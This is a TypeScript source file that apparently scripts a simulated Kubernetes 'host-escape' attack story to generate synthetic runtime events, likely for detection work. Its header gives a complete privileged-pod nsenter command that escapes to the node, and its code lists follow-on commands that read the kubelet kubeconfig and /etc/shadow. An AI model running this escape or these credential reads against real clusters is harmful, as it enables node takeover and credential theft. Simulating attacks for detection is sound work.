/**
 * Escaping to the node: `kubectl run -it --overrides '{…"hostPID":true,…"privileged":true…}' --image
 * alpine -- nsenter -t 1 -m -u -i -n -p -- bash`. The pod's interactive entrypoint is nsenter, which
 * joins init's namespaces and execs the node's bash; the person then reads node credentials.
 */
import { adHocApp } from "../apps.ts";
import { transientPod } from "../cluster.ts";
import { containerPts, startContainer, startPod, stopPod } from "../runtime.ts";
import { type Story, target } from "../story.ts";

export const hostEscape: Story = {
  name: "host-escape",
  description:
    "privileged hostPID pod whose interactive entrypoint nsenter -t 1 … -- bash opens a node shell",
  nominalEvents: 20,
  play(scene, cluster, run) {
    const rng = scene.rng;
    const name = rng.pick(["r00t", "node-shell", "dbg", "tmp"]);
    const spec = adHocApp({
      app: name,
      controller: "none",
      image: "alpine",
      tag: "3.20",
      argv: ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"],
      executable: "/usr/bin/nsenter",
      shell: "sh",
    });
    const host = rng.pick(cluster.hosts);
    const pod = transientPod(rng, cluster, host, spec, name);
    target(run, pod.app);
    startPod(scene, pod);
    const nsenter = startContainer(scene, pod.app, { tty: containerPts(scene), key: true });
    scene.wait(rng.between(3, 20));
    scene.exec(nsenter, ["bash"], { exe: "/bin/bash" });
    const commands = [
      ["id"],
      ["hostname"],
      ["cat", "/var/lib/kubelet/kubeconfig"],
      ["crictl", "ps"],
      ["ls", "/var/lib/kubelet/pods"],
      ["cat", "/etc/shadow"],
    ];
    for (const argv of commands.slice(0, rng.between(4, 6))) {
      scene.think(5000);
      scene.run(nsenter, argv, { newGroup: true, ms: rng.between(3, 300) }, (p) => {
        if (argv[0] === "cat") scene.file(p, "open", argv[1]);
      });
    }
    scene.think(3000);
    stopPod(scene, pod, 0);
  },
};
